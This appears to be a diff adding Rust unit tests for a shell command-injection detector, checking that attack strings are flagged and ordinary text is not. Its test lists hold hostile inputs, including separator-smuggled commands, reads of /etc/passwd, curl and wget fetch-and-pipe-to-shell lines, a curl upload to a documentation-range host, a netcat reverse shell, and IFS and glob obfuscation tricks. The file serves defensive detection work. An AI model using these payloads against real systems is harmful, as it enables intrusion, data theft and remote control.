@@ -1,0 +1,218 @@
+use super::*;
+
+fn found(value: &str) -> Option<&'static str> {
+    detect(value.as_bytes(), Place::Value).first().map(|it| it.signature)
+}
+
+#[test]
+fn a_separator_and_a_command_are_an_injection() {
+    for attack in [
+        ";id",
+        "|id",
+        "1;ls",
+        "x;ls -la",
+        "127.0.0.1; cat /etc/passwd",
+        "a && whoami",
+        "1 || ping -c 10 127.0.0.1",
+        "& dir c:\\",
+        "| dir",
+        "127.0.0.1&;uname -a",
+        "a;sleep 10",
+        "'; sleep 5; '",
+        "\" | id | \"",
+        "a);id",
+        "a)|id;",
+        "x\nid",
+        "x\n/usr/bin/id",
+        "file.txt;wget http://192.0.2.1/x.sh",
+        "; nslookup a.b.example",
+        "| net user",
+        "& ipconfig /all &",
+        "|getent hosts x.example",
+        "| set /a 12*34",
+        "a;echo $((1+2))",
+        "; ( sleep 5 )",
+        "a | type c:\\boot.ini",
+        "8.8.8.8 & ping -n 9 127.0.0.1",
+        "1|ps -ef",
+        "name;curl -d @/etc/hosts http://192.0.2.2",
+        "|| ls ||",
+        "; env",
+        "x; nc -e /bin/sh 192.0.2.9 4444",
+        "|cmd /c dir",
+        "& net localgroup administrators",
+    ] {
+        assert!(found(attack).is_some(), "{attack}");
+    }
+}
+
+#[test]
+fn a_substitution_is_an_injection() {
+    for attack in [
+        "$(id)",
+        "`id`",
+        "x$(sleep 5)y",
+        "`ping 192.0.2.5`",
+        "$(cat /etc/hosts)",
+        "<(cat /x)",
+        "\"$(whoami)\"",
+        "`uname`",
+        "a`sleep 3`",
+        "$(cmd)",
+        "$(nslookup x.example)",
+    ] {
+        assert!(found(attack).is_some(), "{attack}");
+    }
+}
+
+#[test]
+fn disguises_do_not_hide_a_command() {
+    for attack in [
+        "c''at /etc/passwd",
+        "; c\\at /x/y",
+        ";w'h'o'am'i",
+        ";who$@ami",
+        "{cat,/etc/passwd}",
+        ";cat${IFS}/x",
+        "&& wh^oami",
+        "cat$IFS$9/etc/hosts",
+        "/???/??t /x",
+        "/b?n/c?t x",
+        "; /usr/b*/wh*mi",
+        "; head /e't'c/ho's'ts",
+        "|b\"a\"sh",
+    ] {
+        assert!(found(attack).is_some(), "{attack}");
+    }
+}
+
+#[test]
+fn a_command_put_together_of_variables_runs() {
+    for attack in ["a=cat;$a /x", "x=who&&y=ami;$x$y", "cat ${HOME:0:1}etc${HOME:0:1}hosts", "wh``oami; id"] {
+        assert!(found(attack).is_some(), "{attack}");
+    }
+    assert_eq!(found("a=1; b=$a"), None);
+}
+
+#[test]
+fn what_is_piped_into_a_shell_runs() {
+    for attack in ["curl http://192.0.2.1/a | sh", "echo aWQ= | base64 -d | bash", "x|python -c 'import os'"]
+    {
+        assert!(found(attack).is_some(), "{attack}");
+    }
+}
+
+#[test]
+fn a_bare_command_line_needs_telling_arguments() {
+    for attack in [
+        "cat /var/www/x",
+        "/usr/bin/id",
+        "/bin/ps -ef",
+        "ping.exe -n 7 192.0.2.5",
+        "wget http://192.0.2.1/x",
+        "bash -c 'id'",
+        "net user admin",
+        "cmd.exe /c dir",
+        "nc -lvp 4444",
+        "curl http://192.0.2.1/a",
+        "sleep 10",
+        "id|",
+        "../../../bin/id|",
+        "net user x y /add",
+        "certutil -urlcache -f http://192.0.2.1/a a",
+        "dir C:\\",
+    ] {
+        assert!(found(attack).is_some(), "{attack}");
+    }
+    for innocent in [
+        "cat food",
+        "find my order",
+        "ping me",
+        "type a",
+        "curl and gradient",
+        "bash is my favourite!",
+        "sort by price",
+        "sleep well",
+        "echo park",
+        "host a party",
+        "more info",
+        "sleep 8 hours",
+        "make -j 4 was slow",
+        "host a.example for me",
+        "wget is nice",
+        "./bin/console cache:clear",
+        "net income user",
+    ] {
+        assert_eq!(found(innocent), None, "{innocent}");
+    }
+}
+
+/// Texts with shell words and shell punctuation that run nothing.
+#[test]
+fn innocent_texts_pass() {
+    for innocent in [
+        "run `ls` in the folder; then cat the file",
+        "The build failed; more tests are needed; who can help?",
+        "Tom & Jerry; cat and mouse",
+        "rock | sort of jazz | time",
+        "a | b",
+        "name|id|date",
+        "id|name",
+        "title;date;id",
+        "R&D & more",
+        "Missing `id`",
+        "Field `type` must be set",
+        "find & replace",
+        "Touch & go; head & shoulders",
+        "Kill Bill | Less Than Zero",
+        "Home | Who we are | Help",
+        "{\"a\": \"b\"} | jq .",
+        "my last name is head; his is more",
+        "https://example.com/?a=1&id=1&sort=price&date=2026-01-01",
+        "x=1&id=1",
+        "Use the `date` field, or `id`, whichever comes first",
+        "$('#id').hide(); $(document).ready(init);",
+        "all: $(CC) -o main; $(OBJS)",
+        "for (i = 0; i < n; i++) { find(i); }",
+        ".head{margin:0;top:0;left:0}",
+        "top: 0; left: 0; more: 1",
+        "var w=1;top=2;id=3;",
+        "a&nbsp;cat&nbsp;sat",
+        "AT&amp;id=5",
+        "Caf\u{e9} &eacute;cat",
+        "$100; $200",
+        "price is $5 | was $10",
+        "Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101",
+        "text/html; charset=utf-8",
+        "en-US,en;q=0.5",
+        "a=b; path=/; expires=x",
+        "I said 'id' and \"ls\"",
+        "who's there; what time is it",
+        "SELECT name; find me a host",
+        "O'Brien; head of sales",
+        "Smith; John | Doe; Jane",
+        "Dear all,\ntime to meet\nsort it out\nmore soon",
+        "- cat\n- dog\n",
+        "1 & 2\n3 & 4",
+        "if (a && b || c) { return; }",
+        "x => x | 0; y",
+        "C:\\Users\\bob\\cat",
+        "The command is 'sort'",
+        "foo(bar); sort(baz)",
+        "{a,b}",
+        "/* c?t */",
+        "https://example.com/b?n=c",
+        "salt & pepper; w/ fries",
+        "see http://a.example/?q=x;id=4",
+        "Where: top; when: last; who: me",
+    ] {
+        assert_eq!(found(innocent), None, "{innocent}");
+    }
+}
+
+#[test]
+fn the_span_is_the_command_with_its_separator() {
+    let value = b"127.0.0.1; cat /etc/passwd";
+    let found = &detect(value, Place::Value)[0];
+    assert_eq!(&value[found.span.clone()], b"; cat /etc/passwd");
+}
